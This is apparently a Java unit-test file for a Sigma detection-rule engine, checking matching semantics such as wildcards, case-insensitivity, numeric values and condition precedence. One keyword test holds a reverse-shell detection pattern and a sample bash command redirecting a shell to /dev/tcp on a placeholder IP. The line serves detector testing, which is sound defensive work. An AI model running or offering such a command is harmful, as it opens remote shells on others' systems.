package org.citywall.detection.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.citywall.detection.sigma.TestRules.event;
import static org.citywall.detection.sigma.TestRules.list;
import static org.citywall.detection.sigma.TestRules.rule;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** The detection semantics of sigma-rules-specification.md, one behaviour per test. */
class DetectionSemanticsTest {

    @Nested
    class MapsAndLists {
        @Test
        void aMapIsAnAndOfItsFields() {
            SigmaRule r = rule("""
                    selection:
                        user.name: root
                        event.outcome: failure
                    condition: selection
                    """);
            assertThat(r.matches(event("user.name", "root", "event.outcome", "failure"))).isTrue();
            assertThat(r.matches(event("user.name", "root", "event.outcome", "success"))).isFalse();
            assertThat(r.matches(event("user.name", "root"))).isFalse();
        }

        @Test
        void aListOfValuesIsAnOr() {
            SigmaRule r = rule("""
                    selection:
                        event.code: [4625, 529]
                    condition: selection
                    """);
            assertThat(r.matches(event("event.code", 529L))).isTrue();
            assertThat(r.matches(event("event.code", "4625"))).isTrue();
            assertThat(r.matches(event("event.code", 4624L))).isFalse();
        }

        @Test
        void aListOfMapsIsAnOrOfAnds() {
            SigmaRule r = rule("""
                    selection:
                        - process.name: sshd
                          event.outcome: failure
                        - process.name: sudo
                    condition: selection
                    """);
            assertThat(r.matches(event("process.name", "sudo"))).isTrue();
            assertThat(r.matches(event("process.name", "sshd", "event.outcome", "failure"))).isTrue();
            assertThat(r.matches(event("process.name", "sshd", "event.outcome", "success"))).isFalse();
        }

        @Test
        void aListValuedFieldMatchesWhenAnyElementMatches() {
            SigmaRule r = rule("""
                    selection:
                        tags: admin
                    condition: selection
                    """);
            assertThat(r.matches(event("tags", list("x", "ADMIN")))).isTrue();
            assertThat(r.matches(event("tags", list("x", "y")))).isFalse();
        }

        @Test
        void rulesOnlyApplyToTheirLogSourceDatasets() {
            SigmaRule r = rule("""
                    selection:
                        user.name: root
                    condition: selection
                    """);
            assertThat(r.matches(event("user.name", "root").put("event.dataset", "other"))).isFalse();
        }
    }

    @Nested
    class Strings {
        @Test
        void matchingIsCaseInsensitiveByDefault() {
            SigmaRule r = rule("""
                    selection:
                        process.executable: /usr/bin/WGET
                    condition: selection
                    """);
            assertThat(r.matches(event("process.executable", "/usr/bin/wget"))).isTrue();
        }

        @Test
        void wildcardsStarAndQuestionMark() {
            SigmaRule r = rule("""
                    selection:
                        file.name: 'prog?.e*e'
                    condition: selection
                    """);
            assertThat(r.matches(event("file.name", "progA.exe"))).isTrue();
            assertThat(r.matches(event("file.name", "progAB.exe"))).isFalse();
            assertThat(r.matches(event("file.name", "prog1.e-long-e"))).isTrue();
            assertThat(r.matches(event("file.name", "prog1.ex"))).isFalse();
        }

        @Test
        void escapedWildcardsAreLiteral() {
            SigmaRule r = rule("""
                    selection:
                        message: 'what\\?\\*'
                    condition: selection
                    """);
            assertThat(r.matches(event("message", "what?*"))).isTrue();
            assertThat(r.matches(event("message", "whatX*"))).isFalse();
        }

        @Test
        void escapedBackslashBeforeAWildcardKeepsTheWildcard() {
            SigmaRule r = rule("""
                    selection:
                        file.path: 'C:\\\\*'
                    condition: selection
                    """);
            assertThat(r.matches(event("file.path", "C:\\Windows"))).isTrue();
            assertThat(r.matches(event("file.path", "C:Windows"))).isFalse();
        }

        @Test
        void aPlainBackslashIsLiteral() {
            SigmaRule r = rule("""
                    selection:
                        file.path: 'C:\\Windows\\System32'
                    condition: selection
                    """);
            assertThat(r.matches(event("file.path", "c:\\windows\\system32"))).isTrue();
        }

        @Test
        void emptyStringMatchesOnlyAnEmptyValue() {
            SigmaRule r = rule("""
                    selection:
                        user.name: ''
                    condition: selection
                    """);
            assertThat(r.matches(event("user.name", ""))).isTrue();
            assertThat(r.matches(event("user.name", "x"))).isFalse();
            assertThat(r.matches(event())).isFalse();
        }

        @Test
        void nullMatchesAnAbsentField() {
            SigmaRule r = rule("""
                    selection:
                        user.name: null
                    condition: selection
                    """);
            assertThat(r.matches(event())).isTrue();
            assertThat(r.matches(event("user.name", "x"))).isFalse();
            assertThat(r.matches(event("user.name", ""))).isFalse();
        }

        @Test
        void keywordsSearchMessageAndOriginal() {
            SigmaRule r = rule("""
                    keywords:
                        - 'Failed password'
                        - 'authentication failure'
                    condition: keywords
                    """);
            assertThat(r.matches(event("message", "Failed password for root from 10.0.0.1"))).isTrue();
            assertThat(r.matches(event("event.original", "<38>sshd[1]: pam_unix: AUTHENTICATION FAILURE; x"))).isTrue();
            assertThat(r.matches(event("user.name", "Failed password"))).isFalse();
        }

        @Test
        void allKeywordsMustAppearWithTheAllModifier() {
            SigmaRule r = rule("""
                    keywords:
                        '|all':
                            - 'bash -c /bin/bash'
                            - '&/dev/tcp/'
                    condition: keywords
                    """);
            assertThat(r.matches(event("message", "x bash -c /bin/bash >&/dev/tcp/1.2.3.4/80"))).isTrue();
            assertThat(r.matches(event("message", "x bash -c /bin/bash"))).isFalse();
        }

        @Test
        void numbersMatchTheirTextualForm() {
            SigmaRule r = rule("""
                    selection:
                        http.response.status_code: 404
                    condition: selection
                    """);
            assertThat(r.matches(event("http.response.status_code", 404L))).isTrue();
            assertThat(r.matches(event("http.response.status_code", "404"))).isTrue();
            assertThat(r.matches(event("http.response.status_code", 404.0))).isTrue();
        }

        @Test
        void aDecimalValueMatchesTheTextWrittenInTheRule() {
            SigmaRule r = rule("""
                    selection:
                        cs-version: 1.0
                    condition: selection
                    """);
            assertThat(r.matches(event("cs-version", "1.0"))).isTrue();
            assertThat(r.matches(event("cs-version", "1"))).isFalse();
            assertThat(r.matches(event("cs-version", "1.00"))).isFalse();
            // numeric event fields still compare as numbers
            assertThat(r.matches(event("cs-version", 1L))).isTrue();
            assertThat(r.matches(event("cs-version", 1.0))).isTrue();
            assertThat(r.matches(event("cs-version", 1.5))).isFalse();
            assertThat(r.matches(event("cs-version", list("2.0", "1.0")))).isTrue();
            assertThat(r.matches(event("cs-version", list(2L, 1L)))).isTrue();
        }

        @Test
        void trailingZerosOfADecimalAreKept() {
            SigmaRule r = rule("""
                    selection:
                        cs-version: 1.10
                    condition: selection
                    """);
            assertThat(r.matches(event("cs-version", "1.10"))).isTrue();
            assertThat(r.matches(event("cs-version", "1.1"))).isFalse();
            assertThat(r.matches(event("cs-version", 1.1))).isTrue();
        }

        @Test
        void aDecimalWithModifiersOrInAListMatchesAsText() {
            SigmaRule r = rule("""
                    selection:
                        v|startswith: 1.0
                        w:
                            - 2.50
                            - 3.0
                    condition: selection
                    """);
            assertThat(r.matches(event("v", "1.0.3", "w", "3.0"))).isTrue();
            assertThat(r.matches(event("v", "1.0.3", "w", "2.50"))).isTrue();
            assertThat(r.matches(event("v", "1.0.3", "w", "3"))).isFalse();
            assertThat(r.matches(event("v", "1.1", "w", "3.0"))).isFalse();
        }

        @Test
        void anIntegerValueMatchesItsTextAndItsNumber() {
            SigmaRule r = rule("""
                    selection:
                        sc-status: 200
                    condition: selection
                    """);
            assertThat(r.matches(event("sc-status", "200"))).isTrue();
            assertThat(r.matches(event("sc-status", 200L))).isTrue();
            assertThat(r.matches(event("sc-status", 200.0))).isTrue();
            assertThat(r.matches(event("sc-status", "2000"))).isFalse();
        }

        @Test
        void aDecimalStillComparesNumericallyWithComparisonModifiers() {
            SigmaRule r = rule("""
                    selection:
                        n|gte: 1.10
                    condition: selection
                    """);
            assertThat(r.matches(event("n", "1.2"))).isTrue();
            assertThat(r.matches(event("n", 1.1))).isTrue();
            assertThat(r.matches(event("n", "1.05"))).isFalse();
        }

        @Test
        void anEcsFieldNeverStandsForFieldsBelowIt() {
            RuleSet rs = RuleSet.builder().addYaml("ecs.yml", """
                    title: ecs
                    taxonomy: ecs
                    logsource:
                        product: aws
                        service: cloudtrail
                    detection:
                        s:
                            source|contains: '10.'
                        condition: s
                    """).build();
            assertThat(rs.match(event("source.ip", "10.0.0.1").put("event.dataset", "aws.cloudtrail"))).isEmpty();
        }

        @Test
        void anObjectFieldStandsForTheValuesBelowIt() {
            SigmaRule r = rule("""
                    selection:
                        requestParameters|contains: Suspended
                    condition: selection
                    """);
            assertThat(r.matches(event("requestParameters.VersioningConfiguration.Status", "Suspended"))).isTrue();
            assertThat(r.matches(event("requestParameters.bucketName", "x"))).isFalse();
        }
    }

    @Nested
    class Conditions {
        private final String detection = """
                a:
                    f: a
                b:
                    g: b
                filter_x:
                    h: x
                filter_y:
                    h: y
                _helper:
                    i: i
                """;

        private SigmaRule with(String condition) {
            return rule(detection + "condition: " + condition + "\n");
        }

        @Test
        void andBindsTighterThanOr() {
            SigmaRule r = with("a or b and filter_x");
            assertThat(r.matches(event("f", "a"))).isTrue();
            assertThat(r.matches(event("g", "b"))).isFalse();
            assertThat(r.matches(event("g", "b", "h", "x"))).isTrue();
        }

        @Test
        void notBindsTighterThanAnd() {
            SigmaRule r = with("not a and b");
            assertThat(r.matches(event("g", "b"))).isTrue();
            assertThat(r.matches(event("f", "a", "g", "b"))).isFalse();
        }

        @Test
        void parenthesesGroup() {
            SigmaRule r = with("a and (b or filter_x)");
            assertThat(r.matches(event("f", "a", "h", "x"))).isTrue();
            assertThat(r.matches(event("f", "a"))).isFalse();
        }

        @Test
        void oneOfAPattern() {
            SigmaRule r = with("a and not 1 of filter_*");
            assertThat(r.matches(event("f", "a"))).isTrue();
            assertThat(r.matches(event("f", "a", "h", "y"))).isFalse();
        }

        @Test
        void allOfAPattern() {
            SigmaRule r = rule("""
                    sel_1:
                        f: a
                    sel_2:
                        g: b
                    condition: all of sel_*
                    """);
            assertThat(r.matches(event("f", "a", "g", "b"))).isTrue();
            assertThat(r.matches(event("f", "a"))).isFalse();
        }

        @Test
        void nOfMoreIdentifiersThanThePatternMatchesIsRejectedAsItCouldNeverMatch() {
            Rejection r = TestRules.rejection(detection + "condition: 3 of filter_*\n");
            assertThat(r.reason()).contains("3 of filter_*").contains("2").contains("can never match");
            assertThat(rule(detection + "condition: 2 of filter_*\n").matches(event("h", "x"))).isFalse();
        }

        @Test
        void aHugeNOfIsRejectedWithTheSameReasonNotAsAnUnreadableNumber() {
            Rejection r = TestRules.rejection(detection + "condition: 99999999999999999999 of them\n");
            assertThat(r.reason()).contains("99999999999999999999 of them").contains("can never match")
                    .doesNotContain("NumberFormat");
        }

        @Test
        void themExcludesUnderscoreIdentifiers() {
            SigmaRule r = with("1 of them");
            assertThat(r.matches(event("i", "i"))).isFalse();
            assertThat(r.matches(event("h", "y"))).isTrue();
            SigmaRule all = rule("""
                    a:
                        f: a
                    _b:
                        g: b
                    condition: all of them
                    """);
            assertThat(all.matches(event("f", "a"))).isTrue();
        }

        @Test
        void aListOfConditionsIsRejectedAsTheSchemaRequiresAString() {
            Rejection r = TestRules.rejection(detection + "condition:\n    - a\n    - b\n");
            assertThat(r.reason()).contains("condition").contains("string expected");
            assertThat(r.line()).isEqualTo(16);
        }

        @Test
        void keywordsAndOperatorsAreCaseInsensitive() {
            SigmaRule r = with("a AND NOT b");
            assertThat(r.matches(event("f", "a"))).isTrue();
        }
    }

    @Test
    void matchedFieldsComeFromThePositiveSelections() {
        RuleSet rs = TestRules.set(TestRules.wrap("""
                selection:
                    user.name: root
                    source.ip|cidr: 10.0.0.0/8
                filter:
                    host.name: bastion
                condition: selection and not filter
                """));
        var m = rs.match(event("user.name", "root", "source.ip", "10.1.2.3", "host.name", "web1"));
        assertThat(m).hasSize(1);
        assertThat(m.get(0).matched()).containsEntry("user.name", "root").containsEntry("source.ip", "10.1.2.3")
                .doesNotContainKey("host.name");
        assertThat(m.get(0).alerting()).isTrue();
    }
}
